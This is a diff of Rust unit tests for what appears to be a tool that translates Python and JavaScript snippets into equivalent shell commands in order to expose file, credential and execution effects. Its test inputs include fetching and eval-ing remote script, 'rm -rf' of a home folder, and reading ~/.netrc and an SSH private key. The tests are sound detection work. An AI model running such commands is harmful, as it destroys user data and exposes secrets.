@@ -113,3 +113,32 @@ fn a_function_passed_as_a_value_is_unread() {
     let r = js("fetch('https://x.example.net/m.js').then(r=>r.text()).then(eval)");
     assert!(r.unread.is_some(), "{r:?}");
 }
+
+#[test]
+fn standard_library_calls_that_read_write_or_run() {
+    let r = py("import pydoc; pydoc.pipepager('x', 'rm -rf ~/docs; cat')");
+    assert_eq!(r.script, "rm -rf ~/docs; cat");
+    let r = py("import logging, os\nlogging.FileHandler(os.path.expanduser('~/docs/r.txt'), 'w')");
+    assert_eq!(r.script, "tee -- ~'/docs/r.txt'");
+    let r = py("import logging\nlogging.basicConfig(filename='app.log')\nlogging.info('x')");
+    assert_eq!((r.script.as_str(), r.unread), ("tee -a -- 'app.log'", None));
+    let r = py("import netrc; print(netrc.netrc().hosts)");
+    assert_eq!(r.script, "cat -- ~'/.netrc'");
+    let r = py("import linecache, os\nlinecache.getlines(os.path.expanduser('~/.ss'+'h/id_rsa'))");
+    assert_eq!(r.script, "cat -- ~'/.ssh/id_rsa'");
+    let r = py("import timeit\ntimeit.timeit('os.getpid()', 'import os', number=1)");
+    assert_eq!(r.script, "python3 -c 'import os\nos.getpid()'");
+    let r = py("import timeit\ntimeit.timeit(lambda: 1)");
+    assert_eq!((r.script.as_str(), r.unread), ("", None));
+    assert!(py("import pydoc\npydoc.pager('x')").unread.is_some());
+    assert_eq!(
+        py("import logging\nlog = logging.getLogger(__name__)\nlog.setLevel(logging.INFO)").unread,
+        None
+    );
+}
+
+#[test]
+fn a_member_imported_by_name_has_its_value() {
+    let r = js("import { rmSync } from 'node:fs';\nimport { homedir } from 'node:os';\nrmSync(homedir()+'/docs',{recursive:true});");
+    assert_eq!(r.script, "rm -rf -- ~'/docs'");
+}
